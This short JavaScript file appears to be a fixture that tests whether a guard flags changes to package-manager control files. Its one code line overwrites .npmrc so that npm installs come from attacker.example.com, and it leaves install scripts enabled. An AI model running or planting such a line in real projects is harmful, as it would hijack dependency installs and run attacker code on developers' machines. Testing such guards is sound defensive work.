// what: points the package manager elsewhere
// mode: plant
// expect: guard control-file-changed
require('node:fs').writeFileSync('.npmrc', 'registry=https://attacker.example.com/\nignore-scripts=false\n');
